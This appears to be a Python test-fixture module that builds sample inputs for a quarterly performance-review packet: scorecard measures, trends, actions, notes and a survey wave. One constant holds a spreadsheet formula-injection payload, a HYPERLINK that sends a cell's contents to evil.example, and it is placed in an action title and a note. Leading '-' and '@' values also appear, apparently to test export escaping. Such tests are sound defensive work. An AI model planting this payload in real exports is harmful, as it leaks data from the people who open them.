"""Packet inputs for the packet's unit tests: a QSMO review with a RED, an AMBER, a stale and
a GREEN measure, commentary with a formula in it, actions and a closed survey wave."""

from datetime import UTC, date, datetime

from shared.domain.review_packet import (
    ActionRecord,
    ActionStep,
    Changes,
    DimensionChange,
    DimensionFigures,
    MeasureChange,
    MeasureFigures,
    Note,
    PacketInputs,
    ScorecardFigures,
    SurveyGroup,
    SurveyHighlight,
    Trend,
    TrendPoint,
)

CUT_OFF = datetime(2025, 4, 2, 14, 0, 5, tzinfo=UTC)
PREVIOUS_CUT_OFF = datetime(2025, 1, 3, 9, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def measure(
    id: str, name: str, unit: str, value: float | None, target: float, status: str, **more: object
) -> MeasureFigures:
    fields: dict[str, object] = {
        "id": id,
        "name": name,
        "unit": unit,
        "aggregation": "mean",
        "dimension": "customer",
        "value": value,
        "target": target,
        "annual_target": target,
        "attainment": None if value is None else min(1.0, value / target),
        "status": status,
        "weight": 1.0,
        "active": True,
        "baseline": None,
        "last_year_value": None,
        "events": 12,
        "restated": 0,
        "last_event_at": datetime(2025, 3, 30, 12, tzinfo=UTC),
        "stale": False,
        "reporting_frequency_days": 30,
        **more,
    }
    return MeasureFigures.model_validate(fields)


def sample_inputs(*, draft: bool = False, qsmo: str | None = "cybersecurity") -> PacketInputs:
    satisfaction = measure(
        "customer-satisfaction",
        "Customer satisfaction",
        "score 1–5",
        3.1,
        4.0,
        "RED",
        last_year_value=3.9,
        baseline=3.5,
    )
    engagement = measure(
        "customer-engagement",
        "Customer engagement",
        "engagements",
        17.0,
        20.0,
        "AMBER",
        aggregation="sum",
        annual_target=40.0,
    )
    savings = measure(
        "cost-savings",
        "Cost savings",
        "USD",
        1250000.0,
        1000000.0,
        "GREEN",
        dimension="financial",
    )
    uptime = measure(
        "availability",
        "Availability",
        "% availability",
        None,
        99.5,
        "NO_DATA",
        dimension="financial",
        stale=True,
        events=0,
        last_event_at=None,
    )
    card = ScorecardFigures(
        version=12,
        computed_at=datetime(2025, 4, 1, 13, 59, tzinfo=UTC),
        overall_score=71.25,
        overall_status="AMBER",
        open=True,
        elapsed_share=0.5,
        dimensions=(
            DimensionFigures(
                id="customer",
                name="Customer",
                score=62.5,
                status="AMBER",
                weight=1.0,
                active=True,
                measures=(satisfaction, engagement),
            ),
            DimensionFigures(
                id="financial",
                name="Financial",
                score=100.0,
                status="GREEN",
                weight=1.0,
                active=True,
                measures=(savings, uptime),
            ),
        ),
    )
    months = ("2024-10", "2024-11", "2024-12", "2025-01", "2025-02", "2025-03", "2025-04")
    values = (3.9, 3.5, None, 3.0, 2.8, 3.1, 3.2)
    trends = (
        Trend(
            measure="customer-satisfaction",
            points=tuple(TrendPoint(label=m, value=v) for m, v in zip(months, values, strict=True)),
        ),
        Trend(measure="customer-engagement", points=(TrendPoint(label="2024-10", value=5.0),)),
        Trend(measure="cost-savings", points=()),
    )
    actions = (
        ActionRecord(
            id="a-overdue",
            qsmo="cybersecurity",
            measure="customer-satisfaction",
            title="Call every unhappy agency",
            owner="Customer lead",
            due_date=date(2025, 3, 1),
            status="IN_PROGRESS",
            created_at=datetime(2024, 12, 1, tzinfo=UTC),
            history=(
                ActionStep(
                    at=datetime(2025, 2, 1, tzinfo=UTC), from_status="OPEN", to_status="IN_PROGRESS"
                ),
            ),
        ),
        ActionRecord(
            id="a-soon",
            qsmo="cybersecurity",
            measure="customer-engagement",
            title=FORMULA,
            owner="-Ops",
            due_date=date(2025, 4, 20),
            status="OPEN",
            created_at=datetime(2025, 3, 1, tzinfo=UTC),
        ),
        ActionRecord(
            id="a-later",
            qsmo="cybersecurity",
            measure="cost-savings",
            title="Later",
            owner="CFO",
            due_date=date(2025, 9, 1),
            status="OPEN",
            created_at=datetime(2025, 4, 5, tzinfo=UTC),  # after the cut-off: not shown
        ),
    )
    return PacketInputs(
        review_id=f"FY2025-Q2|{qsmo or 'government'}",
        title="FY2025 Q2 performance review — Cybersecurity",
        qsmo=qsmo,
        scope_name="Cybersecurity" if qsmo else "Government-wide (every QSMO)",
        fiscal_year=2025,
        quarter=2,
        quarter_start=date(2025, 1, 1),
        quarter_last_day=date(2025, 3, 31),
        meeting_date=date(2025, 4, 15),
        participants=("OSSPI", "@OMB analyst"),
        cut_off=CUT_OFF,
        draft=draft,
        scorecard=card,
        previous_review_id="FY2025-Q1|cybersecurity",
        previous_cut_off=PREVIOUS_CUT_OFF,
        changes=Changes(
            previous_review_id="FY2025-Q1|cybersecurity",
            previous_cut_off=PREVIOUS_CUT_OFF,
            from_version=4,
            to_version=12,
            old_overall_score=80.0,
            new_overall_score=71.25,
            old_overall_status="GREEN",
            new_overall_status="AMBER",
            measures=(
                MeasureChange(
                    id="customer-satisfaction",
                    name="Customer satisfaction",
                    unit="score 1–5",
                    old_value=3.9,
                    new_value=3.1,
                    old_status="GREEN",
                    new_status="RED",
                    causes=("new_data", "restatement"),
                ),
            ),
            causes=("new_data", "restatement"),
            dimensions=(
                DimensionChange(
                    id="customer",
                    name="Customer",
                    old_score=100.0,
                    new_score=62.5,
                    old_status="GREEN",
                    new_status="AMBER",
                ),
            ),
        ),
        trends=trends,
        notes=(
            Note(
                qsmo="cybersecurity",
                measure="customer-satisfaction",
                text=FORMULA,
                author="publisher-cyber",
                created_at=datetime(2025, 3, 20, tzinfo=UTC),
            ),
        ),
        actions=actions,
        surveys=(
            SurveyHighlight(
                wave_id="fy2025-winter",
                name="Winter pulse",
                closed_on=date(2025, 2, 28),
                respondents=42,
                response_rate=0.35,
                overall_mean=3.8,
                groups=(
                    SurveyGroup(label="Security operations", respondents=30, mean=3.9),
                    SurveyGroup(
                        label="Identity",
                        respondents=None,
                        mean=None,
                        withheld="fewer than 5 respondents",
                    ),
                ),
            ),
        ),
    )
